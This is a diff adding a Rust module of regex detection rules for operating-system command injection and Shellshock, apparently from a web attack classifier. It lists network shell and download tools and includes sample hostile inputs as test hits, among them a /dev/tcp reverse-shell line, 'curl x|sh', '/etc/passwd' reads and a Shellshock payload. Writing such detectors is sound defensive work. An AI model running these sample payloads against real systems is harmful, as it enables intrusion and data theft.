@@ -1,0 +1,118 @@
+//! Operating-system commands.
+
+use super::{EVERYWHERE, NOT_PATH, PATH_AND_VALUES, Rule, VALUES};
+use crate::enrich::attack::class::Class::{Cmdi, Shellshock};
+use crate::enrich::attack::views::View::{Raw, Shell};
+
+/// Commands that an attacker runs first: who am I, where am I, fetch, write, wait.
+macro_rules! command {
+    () => {
+        r"(?:cat|ls|id|whoami|uname|wget|curl|ping|nc|ncat|netcat|bash|sh|zsh|ksh|csh|dash|python[\d.]*|perl|ruby|php\d?|nslookup|dig|ifconfig|ipconfig|netstat|pwd|rm|cp|mv|ps|chmod|chown|echo|printf|sleep|dir|cmd|powershell|pwsh|certutil|bitsadmin|tftp|telnet|ssh|scp|tac|nl|egrep|grep|awk|gawk|sed|printenv|killall|systeminfo|tasklist|phpinfo|passthru|base64|xxd|xargs|busybox|lwp-download|gcc|sendmail|wmic|getent|crontab|nohup|mknod|mkfifo|socat|tee|rundll32|mshta|regsvr32|cscript|sudo|lsof|iptables|useradd|openssl|mkdir|arp|unzip|ifstat)"
+    };
+}
+
+/// Commands whose names are words: they need arguments that words do not have.
+macro_rules! word {
+    () => {
+        r"(?:net|ftp|head|tail|more|less|sort|env|export|set|kill|reboot|shutdown|touch|hostname|route|system|exec|eval|java|node|host|find|locate|which|w|who|last|timeout|type|copy|del|reg|su|true|false|uptime|df|free|ip|rename|expr|date|strings|dd|tar|zip|vi|ed|finger|time|command|builtin|source)"
+    };
+}
+
+pub(super) const RULES: &[Rule] = &[
+    Rule {
+        id: "separator-command",
+        class: Cmdi,
+        weight: 6,
+        view: Shell,
+        places: NOT_PATH,
+        pattern: concat!(
+            r"(?:[;|&`\n\r]|\$\(|&&|\|\||<\(|>\()[\s+]*[({!]?[\s+]*(?:/(?:usr/(?:local/)?)?s?bin/)?",
+            command!(),
+            r"(?:\s+[-/$|;&<>.\d~%*?{]|\s*$|\s*[;|&`<>)]|\s+\w+[/.:\\]|\.exe\b|\+[-/\w]|\s+\w+\s*(?:[;|&`<>)]|$))|(?:[;|&`\n\r]|\$\(|&&|\|\|)[\s+]*(?:/(?:usr/(?:local/)?)?s?bin/)?",
+            word!(),
+            r"(?:\s+-{1,2}[a-z]|\s+[/$|;&<>~%*{]|\s*[|`<>]|\.exe\b|;$|\s*$)"
+        ),
+        hits: &["x; cat /etc/passwd", "|id", "a && whoami", "`id`", "1|ping -c 4 127.0.0.1"],
+        misses: &["cats; dogs and more", "q&a", "this | that"],
+    },
+    Rule {
+        id: "command-line",
+        class: Cmdi,
+        weight: 6,
+        view: Shell,
+        places: VALUES,
+        pattern: r"^\s*[+(]?\s*(?:cat|ls|wget|curl|ping(?:\.exe)?|nc|ncat|bash|sh|python[\d.]*|perl|php|ruby|node|nslookup|dig|ifconfig|ipconfig|netstat|ps|rm|cp|mv|chmod|chown|echo|dir|net|cmd|powershell|certutil|tftp|telnet|head|tail|find|type|netsh|copy|del|reg|uname|which|sysinfo|nohup|sudo|env|timeout|sleep)[\s+]+(?:-{1,2}\w|/\w|[;|&`<>$]|\.{1,2}/|\d+\.\d+\.\d+\.\d+|https?:|[a-z]:|user\b|localgroup|view\b|firewall\b|%\w+%|\d+\s*[;|&])",
+        hits: &["cat /etc/x", "ping -n 3 10.0.0.1", "wget http://x"],
+        misses: &["cat food", "find a job"],
+    },
+    Rule {
+        id: "bare-command",
+        class: Cmdi,
+        weight: 5,
+        view: Shell,
+        places: VALUES,
+        pattern: r"^\s*(?:whoami|ifconfig|ipconfig|uname(?:\s+-\w+)?|netstat(?:\s+-\w+)?|ls\s+-\w+|cat\s+/\S+|systeminfo|sysinfo|phpinfo\(\)|/bin/\w+|/usr/bin/\w+|net\s+user|nslookup\s+\S+|tasklist)\s*;?\s*$|^\s*(?:id|pwd|ls|dir|ps|w)\s*[;|&`]|^`\w+`$|[;|&]\s*(?:id|pwd|ls|dir|ps)\s*[;|&]?\s*$",
+        hits: &["whoami", "/usr/bin/id", "id|", "`id`"],
+        misses: &["id", "ls", "identity"],
+    },
+    Rule {
+        id: "bin-path",
+        class: Cmdi,
+        weight: 6,
+        view: Shell,
+        places: NOT_PATH,
+        pattern: r"(?:^|[\s;|&`(=/{<])/(?:usr/(?:local/)?)?s?bin/[\w?*.\[]|(?:^|[\s;|&`(/])/(?:[\w?*]*[?*]+[\w?*]*)/[\w?*]*[?*][\w?*]*(?:\s|/|$)|\b(?:c:)?[/\\]windows[/\\]+system32[/\\]+\w+\.exe",
+        hits: &["/bin/ls", "x /usr/bin/id", "/b?n/c?t /e??/p?sswd"],
+        misses: &["/cabin/1", "/binary"],
+    },
+    Rule {
+        id: "command-idiom",
+        class: Cmdi,
+        weight: 6,
+        view: Shell,
+        places: EVERYWHERE,
+        pattern: r"\b(?:cmd(?:\.exe)?\s*\+?/[ckr]\b|powershell(?:\.exe)?\s+(?:-|\w+)|/dev/(?:tcp|udp)/|system32[/\\]+cmd|(?:wget|curl|fetch|lynx|lwp-download)(?:\s|\+)+(?:-\S+(?:\s|\+)+)*(?:https?|ftp)://|chmod(?:\s|\+)+(?:\+x|[0-7]{3,4}\b|\+?[rwx]{1,3}\b|-r\b)|nc(?:\s|\+)+-[a-z]*e|ncat(?:\s|\+)+-|bash\s+-[ic]|sh\s+-c|xp_cmdshell|rm\s+-[rf]{1,2}\b|certutil(?:\.exe)?\s+-|mkfifo\s+/|mknod\s+/|base64\s+-(?:d|-decode)|cat\s+/(?:etc|proc|var)/|ping\s+-[cn]\s*\d|uname\s+-a|net\s+(?:user|localgroup|share)\s+\S+|type\s+c:|dir\s+c:|echo\s+\S{1,40}\s*>+\s*\S|/etc/passwd\s*[;|&`)]|invoke-(?:expression|webrequest)|downloadstring|python[\d.]*\s+-c|perl\s+-e|php\s+-r|ruby\s+-e)",
+        hits: &["cmd.exe /c dir", "wget http://x/y", "bash -i >& /dev/tcp/1/2", "chmod +x a"],
+        misses: &["curl your hair", "cmd line", "a bash script"],
+    },
+    Rule {
+        id: "shell-expansion",
+        class: Cmdi,
+        weight: 5,
+        view: Raw,
+        places: NOT_PATH,
+        pattern: r"`[^`]{2,200}`|\$\([^)]{1,200}\)|\$\{?ifs\b|\$\{ifs|\{(?:cat|ls|id|curl|wget|ping|echo|nslookup|sleep)\s*,|\$\{\w+:\d|\$\{(?:path|home|pwd|shell|hosttype)\b|\$(?:path|home|shell|pwd|ifs|user|0)\b\s*[|;>)]|<\([^)]{2,100}\)|\$\(\(|\$'\\|%(?:comspec|systemroot|programfiles|pathext|appdata|os)(?::~[\d,-]+)?%|\^[a-z]\^[a-z]|(?:^|[;|&\s])[a-z]{1,3}(?:''|\x22\x22)[a-z]+\s|\$@\w|\$\*\w|\\[a-z]\\[a-z]\\[a-z]",
+        hits: &["$(id)", "`uname -a`", "cat$ifs/etc", "{cat,/x}", "%comspec%"],
+        misses: &["price $(usd", "a `b"],
+    },
+    Rule {
+        id: "path-command",
+        class: Cmdi,
+        weight: 6,
+        view: Shell,
+        places: EVERYWHERE,
+        pattern: r"(?:[;|&`]|\$\()[\s+]*(?:/(?:usr/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|ping|nc|bash|sh|python\d?|perl|ifconfig|netstat|echo|sleep|nslookup)(?:[\s+]+-\w|[\s+]+/[\w?*.]|[\s+]+etc/|\s*[;|`)]\s*|[\s+]+https?:|[\s+]+\d+\.\d+)|=`\w+`|\$0<<<|\$\(\(",
+        hits: &["/x&& ls /etc", "/a;id;", "--exec=`id`"],
+        misses: &["/a;id=4", "/b|c"],
+    },
+    Rule {
+        id: "redirect-command",
+        class: Cmdi,
+        weight: 5,
+        view: Shell,
+        places: PATH_AND_VALUES,
+        pattern: r"[12]?>&[12]\b|2>/dev/null|[<>]\s*/(?:etc|dev|tmp|proc|var)/|[;|&]\s*(?:rm|mv|cp|cat|echo|curl|wget)\s+\S+\s*(?:>|\||;|&&)|\|\s*(?:sh|bash|base64|xxd|tee|perl|python\d?|nc)\b|>\s*\S+\.(?:php|asp|aspx|jsp|sh|txt|bat)\b",
+        hits: &["x 2>&1", "id>/tmp/x", "curl x|sh"],
+        misses: &["a>b", "2 > 1"],
+    },
+    Rule {
+        id: "shellshock",
+        class: Shellshock,
+        weight: 8,
+        view: Raw,
+        places: EVERYWHERE,
+        pattern: r"\(\s*\)\s*\{\s*(?::|_|[^}]{0,60})\s*;?\s*\}\s*[;>]|^\s*\(\)\s*\{|\(\)\s*\{\s*_;\s*\}\s*>_\[",
+        hits: &["() { :;}; /bin/bash -c 'id'", "() { _; } >_[$($())] { id; }"],
+        misses: &["function() { return 1 }", "foo()"],
+    },
+];
